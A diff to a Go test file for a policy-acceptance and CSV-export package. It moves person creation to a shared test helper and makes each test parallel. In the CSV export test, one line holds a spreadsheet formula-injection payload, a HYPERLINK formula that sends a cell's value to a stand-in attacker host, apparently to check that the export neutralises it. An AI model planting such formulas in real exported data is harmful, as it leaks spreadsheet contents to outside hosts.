@@ -15,6 +15,8 @@ import (
 	"github.com/jackc/pgx/v5/pgxpool"
 
 	"github.com/coopgate/coopgate/internal/database"
+	"github.com/coopgate/coopgate/internal/people"
+	"github.com/coopgate/coopgate/internal/people/peopletest"
 	"github.com/coopgate/coopgate/internal/pgtest"
 )
 
@@ -37,19 +39,6 @@ func newPolicy(t *testing.T, id, version, effective string, required bool, body 
 		t.Fatalf("parse: %v", err)
 	}
 	return p
-}
-
-func newPerson(t *testing.T, db *pgxpool.Pool, email, status string) string {
-	t.Helper()
-	var id string
-	err := db.QueryRow(context.Background(), `
-		INSERT INTO people (email, name, username, password_hash, status)
-		VALUES ($1, $2, $3, 'x', $4) RETURNING id::text`,
-		email, "Name of "+email, strings.Split(email, "@")[0], status).Scan(&id)
-	if err != nil {
-		t.Fatalf("inserting person: %v", err)
-	}
-	return id
 }
 
 func mustSync(t *testing.T, db *pgxpool.Pool, ps ...Policy) {
@@ -90,6 +79,7 @@ func ids(ps []Policy) []string {
 }
 
 func TestSyncIsIdempotent(t *testing.T) {
+	t.Parallel()
 	db := pgtest.New(t)
 	a := newPolicy(t, "a", "1", longAgo, true, "A.\n")
 	b := newPolicy(t, "b", "1", longAgo, false, "B.\n")
@@ -109,6 +99,7 @@ func TestSyncIsIdempotent(t *testing.T) {
 }
 
 func TestSyncRefusesAnEditWithoutANewVersion(t *testing.T) {
+	t.Parallel()
 	stored := newPolicy(t, "a", "2", longAgo, true, "Original text.\n")
 	tests := []struct {
 		name string
@@ -144,6 +135,7 @@ func TestSyncRefusesAnEditWithoutANewVersion(t *testing.T) {
 }
 
 func TestCurrentPicksTheVersionInEffect(t *testing.T) {
+	t.Parallel()
 	ctx := context.Background()
 	db := pgtest.New(t)
 	mustSync(t, db, newPolicy(t, "a", "9", longAgo, true, "Nine.\n"))
@@ -173,6 +165,7 @@ func TestCurrentPicksTheVersionInEffect(t *testing.T) {
 }
 
 func TestNotFound(t *testing.T) {
+	t.Parallel()
 	ctx := context.Background()
 	db := pgtest.New(t)
 	mustSync(t, db, newPolicy(t, "a", "1", longAgo, true, "A.\n"))
@@ -188,11 +181,12 @@ func TestNotFound(t *testing.T) {
 }
 
 func TestAcceptWritesOneRowPerPolicy(t *testing.T) {
+	t.Parallel()
 	db := pgtest.New(t)
 	a := newPolicy(t, "a", "1", longAgo, true, "A.\n")
 	b := newPolicy(t, "b", "1", longAgo, true, "B.\n")
 	mustSync(t, db, a, b)
-	person := newPerson(t, db, "ann@example.coop", "admitted")
+	person := peopletest.Admitted(t, db, "ann@example.coop").ID
 	rows := func() int {
 		return count(t, db, `SELECT count(*) FROM policy_acceptances WHERE person_id = $1`, person)
 	}
@@ -222,10 +216,11 @@ func TestAcceptWritesOneRowPerPolicy(t *testing.T) {
 }
 
 func TestAcceptStoresAnyUserAgent(t *testing.T) {
+	t.Parallel()
 	db := pgtest.New(t)
 	a := newPolicy(t, "a", "1", longAgo, true, "A.\n")
 	mustSync(t, db, a)
-	person := newPerson(t, db, "ann@example.coop", "admitted")
+	person := peopletest.Admitted(t, db, "ann@example.coop").ID
 	ua := "Bad\x00Agent \xff" + strings.Repeat("é", 1000)
 	if err := accept(db, person, ua, a.Ref()); err != nil {
 		t.Fatalf("Accept: %v", err)
@@ -240,12 +235,13 @@ func TestAcceptStoresAnyUserAgent(t *testing.T) {
 }
 
 func TestPendingFollowsNewVersions(t *testing.T) {
+	t.Parallel()
 	ctx := context.Background()
 	db := pgtest.New(t)
 	a1 := newPolicy(t, "a", "1", longAgo, true, "A.\n")
 	optional := newPolicy(t, "optional", "1", longAgo, false, "Optional.\n")
 	mustSync(t, db, a1, optional)
-	person := newPerson(t, db, "ann@example.coop", "admitted")
+	person := peopletest.Admitted(t, db, "ann@example.coop").ID
 	pending := func() []string {
 		t.Helper()
 		ps, err := Pending(ctx, db, person)
@@ -278,14 +274,15 @@ func TestPendingFollowsNewVersions(t *testing.T) {
 }
 
 func TestAcceptedVersions(t *testing.T) {
+	t.Parallel()
 	ctx := context.Background()
 	db := pgtest.New(t)
 	a1 := newPolicy(t, "a", "1", longAgo, true, "A.\n")
 	a2 := newPolicy(t, "a", "2", lastYr, true, "A two.\n")
 	b1 := newPolicy(t, "b", "1", longAgo, false, "B.\n")
 	mustSync(t, db, a1, a2, b1)
-	ann := newPerson(t, db, "ann@example.coop", "admitted")
-	bob := newPerson(t, db, "bob@example.coop", "admitted")
+	ann := peopletest.Admitted(t, db, "ann@example.coop").ID
+	bob := peopletest.Admitted(t, db, "bob@example.coop").ID
 
 	mustAccept(t, db, ann, a1.Ref(), b1.Ref())
 	mustAccept(t, db, ann, a2.Ref())
@@ -311,15 +308,16 @@ func TestAcceptedVersions(t *testing.T) {
 }
 
 func TestNotAccepted(t *testing.T) {
+	t.Parallel()
 	ctx := context.Background()
 	db := pgtest.New(t)
 	a1 := newPolicy(t, "a", "1", longAgo, true, "A.\n")
 	mustSync(t, db, a1)
-	ann := newPerson(t, db, "ann@example.coop", "admitted")
-	newPerson(t, db, "bob@example.coop", "admitted")
-	newPerson(t, db, "cat@example.coop", "awaiting_approval")
-	newPerson(t, db, "dan@example.coop", "ceased")
-	newPerson(t, db, "eve@example.coop", "rejected")
+	ann := peopletest.Admitted(t, db, "ann@example.coop").ID
+	peopletest.Admitted(t, db, "bob@example.coop")
+	peopletest.Create(t, db, people.New{Email: "cat@example.coop", Status: people.AwaitingApproval})
+	peopletest.Create(t, db, people.New{Email: "dan@example.coop", Status: people.Ceased})
+	peopletest.Create(t, db, people.New{Email: "eve@example.coop", Status: people.Rejected})
 	mustAccept(t, db, ann, a1.Ref())
 	emails := func() []string {
 		t.Helper()
@@ -346,11 +344,12 @@ func TestNotAccepted(t *testing.T) {
 }
 
 func TestExportCSV(t *testing.T) {
+	t.Parallel()
 	db := pgtest.New(t)
 	a := newPolicy(t, "a", "1", longAgo, true, "A.\n")
 	mustSync(t, db, a)
-	ann := newPerson(t, db, "ann@example.coop", "admitted")
-	bob := newPerson(t, db, "bob@example.coop", "admitted")
+	ann := peopletest.Admitted(t, db, "ann@example.coop").ID
+	bob := peopletest.Admitted(t, db, "bob@example.coop").ID
 	mustAccept(t, db, ann, a.Ref())
 	evil := `=HYPERLINK("https://evil.example/?"&A1, "click")`
 	if err := accept(db, bob, evil, a.Ref()); err != nil {
